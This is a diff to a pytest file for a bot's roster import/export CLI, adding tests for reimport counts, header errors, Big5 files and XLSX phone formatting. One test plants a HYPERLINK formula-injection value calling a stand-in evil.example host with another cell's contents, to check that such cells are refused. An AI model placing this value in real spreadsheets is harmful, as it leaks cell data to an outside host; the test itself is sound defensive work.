@@ -6,7 +6,7 @@ import csv
 from pathlib import Path
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from PIL import Image
 
 from bot.cli import main
@@ -42,7 +42,7 @@ def test_roster_import_from_csv_and_export_round_trip(config: Path, tmp_path: Pa
     exported = list(csv.reader(capsys.readouterr().out.splitlines()))
 
     assert status == 0
-    assert "已导入 2 个村、5 户：新增 11 人，更新 0 人。" in imported
+    assert "已导入 2 个村、5 户：新增 11 人，更新 0 人，0 人没有变化。" in imported
     assert exported[0] == HEADER
     assert len(exported) == 1 + 9
 
@@ -156,8 +156,92 @@ def test_bad_arguments_exit_2(capsys: pytest.CaptureFixture[str]) -> None:
     assert "file" in capsys.readouterr().err
 
 
-def test_a_missing_file_is_a_clear_error(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_missing_file_is_a_bad_argument_told_in_chinese(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
     status = run("roster", "import", "/nonexistent/roster.xlsx", "--config", str(config))
 
+    assert status == 2
+    assert capsys.readouterr().err == "无法读取 /nonexistent/roster.xlsx：没有这个文件。\n"
+
+
+def test_reimporting_the_same_roster_updates_nobody(config: Path, tmp_path: Path,
+                                                    capsys: pytest.CaptureFixture[str]) -> None:
+    source = write_csv(tmp_path / "roster.csv", [HEADER, *ROSTER])
+    run("roster", "import", str(source), "--config", str(config))
+    capsys.readouterr()
+
+    status = run("roster", "import", str(source), "--config", str(config))
+
+    assert status == 0
+    assert "新增 0 人，更新 0 人，11 人没有变化。" in capsys.readouterr().out
+
+
+def test_a_missing_column_is_one_header_problem_not_one_per_row(config: Path, tmp_path: Path,
+                                                                capsys: pytest.CaptureFixture[str]) -> None:
+    without_grid = [[cell for i, cell in enumerate(row) if i != 2] for row in [HEADER, *ROSTER]]
+    source = write_csv(tmp_path / "roster.csv", without_grid)
+
+    status = run("roster", "import", str(source), "--config", str(config))
+
+    error = capsys.readouterr().err
     assert status == 1
-    assert "cannot read" in capsys.readouterr().err
+    assert error == "文件中有 1 处问题，未做任何修改。\n第 1 行：表头缺少列：grid\n"
+
+
+def test_formula_looking_roster_cells_are_refused(config: Path, tmp_path: Path,
+                                                 capsys: pytest.CaptureFixture[str]) -> None:
+    rows = [list(r) for r in ROSTER]
+    rows[0][5] = '=HYPERLINK("http://evil.example/?"&B2,"x")'
+    rows[1][3] = "@组"
+    source = write_csv(tmp_path / "roster.csv", [HEADER, *rows])
+
+    status = run("roster", "import", str(source), "--config", str(config))
+    error = capsys.readouterr().err
+    run("roster", "export", "--config", str(config))
+
+    assert status == 1
+    assert ('第 2 行：name =HYPERLINK("http://evil.example/?"&B2,"x") 以 = + - 或 @ 开头，'
+            "表格软件会把它当作公式执行") in error
+    assert "第 3 行：group @组 以 = + - 或 @ 开头" in error
+    assert len(capsys.readouterr().out.splitlines()) == 1  # nothing was imported
+
+
+def test_many_bad_rows_list_the_first_20_and_count_the_rest(config: Path, tmp_path: Path,
+                                                             capsys: pytest.CaptureFixture[str]) -> None:
+    rows = [["FX01", "和美村", "一网格", "一组", f"9-{i:02d}", f"村民{i}", "12345", ""] for i in range(25)]
+    source = write_csv(tmp_path / "roster.csv", [HEADER, *rows])
+
+    status = run("roster", "import", str(source), "--config", str(config))
+
+    lines = capsys.readouterr().err.splitlines()
+    assert status == 1
+    assert lines[0] == "文件中有 25 处问题，未做任何修改。"
+    assert lines[1:21] == [f"第 {n} 行：手机号 12345 不正确" for n in range(2, 22)]
+    assert lines[21:] == ["……另有 5 处问题未列出。"]
+
+
+def test_a_big5_roster_is_imported_with_its_names_intact(config: Path, tmp_path: Path,
+                                                        capsys: pytest.CaptureFixture[str]) -> None:
+    source = write_csv(tmp_path / "big5.csv", [HEADER, ["FX01", "和美村", "一網格", "一組", "1-01", "張阿婆",
+                                                        "13800000001", "household_head"]], encoding="big5")
+
+    status = run("roster", "import", str(source), "--config", str(config))
+    run("roster", "export", "--config", str(config))
+
+    assert status == 0
+    assert "FX01,和美村,一網格,一組,1-01,張阿婆,+8613800000001" in capsys.readouterr().out
+
+
+def test_roster_xlsx_export_keeps_phones_as_text_and_imports_back(config: Path, tmp_path: Path,
+                                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    run("roster", "import", str(write_csv(tmp_path / "r.csv", [HEADER, *ROSTER])), "--config", str(config))
+    out = tmp_path / "roster.xlsx"
+
+    exported = run("roster", "export", "--out", str(out), "--config", str(config))
+    capsys.readouterr()
+    again = run("roster", "import", str(out), "--config", str(config))
+
+    phones = [row[6] for row in load_workbook(out).worksheets[0].iter_rows(min_row=2)]
+    assert (exported, again) == (0, 0)
+    assert {(cell.data_type, cell.value) for cell in phones} >= {("s", "+8613800000001"), ("s", "+8613900000009")}
+    assert "新增 0 人，更新 0 人，11 人没有变化。" in capsys.readouterr().out
+
